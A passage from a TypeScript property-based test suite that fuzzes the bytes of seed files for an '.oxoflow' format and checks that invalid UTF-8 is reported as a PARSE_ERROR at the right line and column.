        if (at < copy.length) copy[at] = copy[at]! ^ (mutation.bytes[0]! | 0x80);
        return copy;
      }
    }
  }

  /**
   * Where a WHATWG decoder, fed one byte at a time, first meets bytes that are not UTF-8: the offset of the
   * sequence that goes wrong (its lead byte, or the stray byte itself). -1 when the bytes are UTF-8.
   */
  function firstInvalidOffset(bytes: Uint8Array): number {
    const decoder = new TextDecoder("utf-8", { fatal: true, ignoreBOM: true });
    let pendingStart = -1;
    for (let i = 0; i < bytes.length; i++) {
      let out: string;
      try {
        out = decoder.decode(bytes.subarray(i, i + 1), { stream: true });
      } catch {
        return pendingStart >= 0 ? pendingStart : i;
      }
      if (out.length > 0) pendingStart = -1;
      else if (pendingStart < 0) pendingStart = i;
    }
    return pendingStart;
  }

  let byteCase = 0;
  it(
    "byte mutations of files: invalid UTF-8 is a PARSE_ERROR at the first bad byte's line and column",
    async () => {
      let invalid = 0;
      await fc.assert(
        fc.asyncProperty(fc.nat(SEEDS.length - 1), fc.array(byteMutation, { minLength: 1, maxLength: 4 }), async (index, mutations) => {
          const bytes = mutations.reduce(mutateBytes, Buffer.from(SEEDS[index]!, "utf8") as Uint8Array);
          // Each case gets its own file, next to the modules the seeds include.
          const file = join(work, `bytes-${byteCase++ % 50}.oxoflow`);
          writeFileSync(file, bytes);
          const bad = firstInvalidOffset(bytes);
          const text = bad < 0 ? new TextDecoder("utf-8").decode(bytes) : undefined;
          const outcome = await exercise(text, { file });
          if (bad < 0) return;
          invalid++;
          const prefix = new TextDecoder("utf-8").decode(bytes.subarray(0, bad)).split("\n");
          const error = outcome.loadError;
          expect(error?.code, error?.message).toBe("PARSE_ERROR");
          expect(error!.message).toMatch(/not valid UTF-8/);
          expect({ file: error!.finding.file, line: error!.finding.line, column: error!.finding.column }).toEqual({ file, line: prefix.length, column: prefix[prefix.length - 1]!.length + 1 });
        }),
        propertyParameters(RUNS.mutatedBytes),
      );
      expect(invalid).toBeGreaterThan(RUNS.mutatedBytes / 4);
    },
    PROPERTY_TIMEOUT_MS,
  );
});
